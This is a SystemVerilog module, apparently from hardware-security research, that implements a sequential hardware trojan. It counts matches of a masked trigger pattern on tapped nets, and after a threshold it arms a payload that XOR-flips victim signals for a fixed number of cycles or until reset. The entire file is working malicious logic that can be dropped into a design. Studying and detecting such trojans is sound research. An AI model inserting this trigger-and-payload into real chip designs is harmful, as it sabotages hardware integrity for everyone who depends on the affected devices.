// File: rtl/seq_trojan_trigger.sv
// Sequential trojan trigger: counts masked pattern matches on tapped nets and, once armed,
// XOR-corrupts the victim nets for a fixed number of cycles or until reset.
module seq_trojan_trigger #(
  parameter int unsigned         N_TRIG       = 8,
  parameter logic [N_TRIG-1:0]   TRIG_MASK    = {N_TRIG{1'b1}},
  parameter logic [N_TRIG-1:0]   TRIG_VALUE   = {N_TRIG{1'b1}},
  parameter int unsigned         THRESH       = 4,
  parameter int unsigned         CNT_W        = 4,
  parameter bit                  CONSEC       = 1'b1,
  parameter int unsigned         N_VICTIM     = 1,
  parameter logic [N_VICTIM-1:0] PAYLOAD_MASK = {N_VICTIM{1'b1}},
  parameter int unsigned         FIRE_CYCLES  = 1,
  parameter int unsigned         FIRE_W       = 8
) (
  input  logic                CK,
  input  logic                RST,
  input  logic                en,
  input  logic [N_TRIG-1:0]   trig_in,
  input  logic [N_VICTIM-1:0] victim_in,
  output logic [N_VICTIM-1:0] victim_out,
  output logic                trigger_out,
  output logic [CNT_W-1:0]    count_out,
  output logic [1:0]          state_out
);

  typedef enum logic [1:0] {
    IDLE  = 2'b00,
    COUNT = 2'b01,
    FIRE  = 2'b10
  } state_t;

  localparam int unsigned         FIRE_LAST_I = (FIRE_CYCLES > 0) ? FIRE_CYCLES - 1 : 0;
  localparam logic [FIRE_W-1:0]   FIRE_LAST   = FIRE_LAST_I[FIRE_W-1:0];
  localparam logic [CNT_W-1:0]    THRESH_C    = THRESH[CNT_W-1:0];

  if (THRESH == 0 || THRESH >= (1 << CNT_W)) begin : g_bad_thresh
    $error("seq_trojan_trigger: THRESH must be in 1..2^CNT_W-1");
  end
  if (FIRE_CYCLES >= (1 << FIRE_W)) begin : g_bad_fire
    $error("seq_trojan_trigger: FIRE_CYCLES must be below 2^FIRE_W");
  end

  state_t            state_q, state_d;
  logic [CNT_W-1:0]  cnt_q, cnt_d;
  logic [FIRE_W-1:0] fcnt_q, fcnt_d;
  logic [CNT_W-1:0]  cnt_inc;
  logic              match;

  assign match   = (((trig_in ^ TRIG_VALUE) & TRIG_MASK) == '0);
  assign cnt_inc = cnt_q + 1'b1;

  always_ff @(posedge CK) begin
    if (RST) begin
      state_q <= IDLE;
      cnt_q   <= '0;
      fcnt_q  <= '0;
    end else begin
      state_q <= state_d;
      cnt_q   <= cnt_d;
      fcnt_q  <= fcnt_d;
    end
  end

  always_comb begin
    state_d = state_q;
    cnt_d   = cnt_q;
    fcnt_d  = fcnt_q;
    case (state_q)
      IDLE, COUNT: begin
        if (en) begin
          if (match) begin
            if (cnt_inc == THRESH_C) begin
              state_d = FIRE;
              cnt_d   = '0;
              fcnt_d  = '0;
            end else begin
              state_d = COUNT;
              cnt_d   = cnt_inc;
            end
          end else if (CONSEC) begin
            state_d = IDLE;
            cnt_d   = '0;
          end
        end
      end
      FIRE: begin
        // FIRE_CYCLES of zero means the payload stays armed until reset.
        if (FIRE_CYCLES > 0) begin
          if (fcnt_q == FIRE_LAST) begin
            state_d = IDLE;
            fcnt_d  = '0;
          end else begin
            fcnt_d = fcnt_q + 1'b1;
          end
        end
      end
      default: begin
        state_d = IDLE;
        cnt_d   = '0;
        fcnt_d  = '0;
      end
    endcase
  end

  assign trigger_out = (state_q == FIRE);
  assign count_out   = cnt_q;
  assign state_out   = state_q;
  assign victim_out  = victim_in ^ (trigger_out ? PAYLOAD_MASK : '0);

endmodule
